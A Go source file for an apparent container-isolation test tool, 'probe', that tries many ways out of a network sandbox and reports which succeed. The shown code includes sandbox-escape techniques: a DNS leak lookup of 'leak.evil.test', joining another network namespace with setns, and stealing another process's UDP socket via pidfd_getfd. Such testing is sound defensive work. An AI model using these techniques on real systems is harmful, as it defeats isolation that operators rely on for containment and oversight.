// Command probe runs inside a container and tells what it can reach.
//
//	probe out IPV4 IPV6 PORT UNIXNAME NETNS   try every way out, one line a try
//	probe fetch URL                           GET as a program that obeys the proxy variables
//	probe connect PROXY TARGET                a bare CONNECT: status line and body
//	probe serve ADDRESS|fd:NUMBER             listen, or have been handed over who listens, say so, answer each client with "inside"
//	probe steal PORT                          send by a UDP socket that another process has at PORT
//	probe dial ADDRESS                        one connection, TCP or unix: "ok" or the error
//	probe fd WAY FD ADDRESS                   get out by an inherited descriptor, see useFD
//	probe ways                                send by every odd socket, one line a way
//	probe ask SERVER TYPE:NAME...             ask a name server, "N answers"
//	probe hold PROXY TARGET                   a CONNECT that is kept until the other side ends it: "open", "ended"
//	probe hog ADDRESS COUNT                   so many connections that say nothing, for ever: "holding"
//	probe bytes ADDRESS BYTES...              send, with Go's escapes; the first line of what comes back
//	probe front tls|http PROXY NAME OTHER     tunnel to NAME, and there ask for OTHER
//	probe hello WAY PROXY SERVER NAME SIZE N  a TLS greeting in pieces, see hello
//	probe half PROXY TARGET                   send, end that direction, and count what comes: "N bytes"
//	probe answers NETWORK SERVER TYPE:NAME... what a name server answers, see answers
//	probe table NAME                          make an nftables table
//	probe without-tables COMMAND...           become a command for which the kernel has no nftables
//	probe spy FILE                            look into all that comes up until FILE is there
//	probe trace FILE                          the same by ptrace
//	probe load KIND PROXY TARGET NUMBER...    many connections, see load
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// patience is how long a try may take where a packet can get lost silently.
const patience = time.Second

func main() {
	if len(os.Args) < 2 {
		fail(errors.New("usage: probe out|fetch|connect|serve|steal|dial|fd|ways|ask|hold|hog|bytes|front|hello|half|answers|table|without-tables|spy|trace|load ..."))
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "out":
		out(args[0], args[1], args[2], args[3], args[4])
	case "fetch":
		fetch(args[0])
	case "connect":
		connect(args[0], args[1])
	case "serve":
		serve(args[0])
	case "steal":
		port, err := strconv.Atoi(args[0])
		if err != nil {
			fail(err)
		}
		report("steal", steal(port))
	case "dial":
		network := "tcp"
		if strings.HasPrefix(args[0], "/") {
			network = "unix"
		}
		report("dial", dial(network, args[0]))
	case "fd":
		report("fd", useFD(args[0], args[1], args[2]))
	case "ways":
		tryWays()
	case "ask":
		askNames(args[0], args[1:])
	case "hold":
		hold(args[0], args[1])
	case "hog":
		hog(args[0], args[1])
	case "bytes":
		sendBytes(args[0], args[1:])
	case "front":
		report("front", front(args[0], args[1], args[2], args[3]))
	case "hello":
		report("hello", hello(args[0], args[1], args[2], args[3], args[4], args[5]))
	case "half":
		report("half", half(args[0], args[1]))
	case "answers":
		if err := answers(args[0], args[1], args[2:]); err != nil {
			fail(err)
		}
	case "without-tables":
		fail(withoutTables(args))
	case "table":
		report("table", makeTable(args[0]))
	case "spy", "trace":
		runSpy(args[0], os.Args[1] == "trace")
	case "load":
		load(args[0], args[1], args[2], args[3:])
	default:
		fail(fmt.Errorf("unknown command %q", os.Args[1]))
	}
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "probe:", err)
	os.Exit(1)
}

func report(name string, err error) {
	if err != nil {
		fmt.Printf("%s fail: %s\n", name, strings.ReplaceAll(err.Error(), "\n", "; "))
		return
	}
	fmt.Printf("%s ok\n", name)
}

// out tries each way; setns comes last, for it changes where we are.
func out(ipv4, ipv6, port, unixName, netns string) {
	report("tcp4", dial("tcp4", net.JoinHostPort(ipv4, port)))
	report("tcp6", dial("tcp6", net.JoinHostPort(ipv6, port)))
	report("loopback", dial("tcp4", net.JoinHostPort("127.0.0.1", port)))
	report("mapped", mapped(ipv4, port))
	report("udp4", ask("udp4", net.JoinHostPort(ipv4, port)))
	report("udp6", ask("udp6", net.JoinHostPort(ipv6, port)))
	report("dns-udp", ask("udp4", net.JoinHostPort(ipv4, "53")))
	report("dns-tcp", dial("tcp4", net.JoinHostPort(ipv4, "53")))
	report("lookup", lookup("leak.evil.test"))
	report("abstract", dial("unix", "@"+unixName))
	report("icmp", raw(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, ipv4))
	report("packet", socket(unix.AF_PACKET, unix.SOCK_RAW, 0))
	report("vsock", socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0))
	report("setns", enter(netns, net.JoinHostPort(ipv4, port)))
}

func dial(network, address string) error {
	conn, err := net.DialTimeout(network, address, patience)
	if err != nil {
		return err
	}
	defer conn.Close()
	return echo(conn)
}

// mapped connects to an IPv4 address by an IPv6 socket, which package net
// would not.
func mapped(ipv4, port string) error {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	number, err := strconv.Atoi(port)
	if err != nil {
		return err
	}
	return unix.Connect(fd, &unix.SockaddrInet6{Port: number, Addr: [16]byte(net.ParseIP(ipv4).To16())})
}

func ask(network, address string) error {
	conn, err := net.Dial(network, address)
	if err != nil {
		return err
	}
	defer conn.Close()
	return echo(conn)
}

// echo sends a word that the canary sends back.
func echo(conn net.Conn) error {
	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
		return err
	}
	if _, err := io.WriteString(conn, "canary?\n"); err != nil {
		return err
	}
	_, err := conn.Read(make([]byte, 100))
	return err
}

// lookup asks the name server of /etc/resolv.conf. The canary's answer need
// not be a good one: any answer shows a way out.
func lookup(name string) error {
	asked := false
	resolver := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, address string) (net.Conn, error) {
		conn, err := (&net.Dialer{}).DialContext(ctx, network, address)
		if err == nil {
			asked = echo(conn) == nil
		}
		return conn, errors.Join(err, errors.New("one question is enough"))
	}}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	_, err := resolver.LookupHost(ctx, name)
	if asked {
		return nil
	}
	return err
}

func socket(family, kind, protocol int) error {
	fd, err := unix.Socket(family, kind, protocol)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

// raw sends an empty echo request.
func raw(family, kind, protocol int, ipv4 string) error {
	fd, err := unix.Socket(family, kind, protocol)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	to := unix.SockaddrInet4{Addr: [4]byte(net.ParseIP(ipv4).To4())}
	return unix.Sendto(fd, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}, 0, &to)
}

// enter joins the network namespace of a file and dials from there.
func enter(netns, address string) error {
	fd, err := unix.Open(netns, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	runtime.LockOSThread()
	if err := unix.Setns(fd, unix.CLONE_NEWNET); err != nil {
		return fmt.Errorf("setns: %w", err)
	}
	// By system call: the runtime might dial from another thread.
	sock, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	resolved, err := net.ResolveTCPAddr("tcp4", address)
	if err != nil {
		return err
	}
	return unix.Connect(sock, &unix.SockaddrInet4{Port: resolved.Port, Addr: [4]byte(resolved.IP.To4())})
}

// steal takes a copy of a UDP socket of another network namespace from a
// process that can be seen, and sends from it to itself.
func steal(port int) error {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return err
	}
	last := errors.New("nothing to be seen")
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		pidfd, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			last = err
			continue
		}
		for target := range 64 {
			fd, err := unix.PidfdGetfd(pidfd, target, 0)
			if err != nil {
				last = err
				continue
			}
			kind, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_TYPE)
			if err != nil || kind != unix.SOCK_DGRAM {
				continue
			}
			if name, ok := getsockname(fd).(*unix.SockaddrInet4); ok && name.Port == port {
				return unix.Sendto(fd, []byte("stolen"), 0, name)
			}
		}
	}
	return last
}

func getsockname(fd int) unix.Sockaddr {
	name, err := unix.Getsockname(fd)
	if err != nil {
		return nil
	}
	return name
}
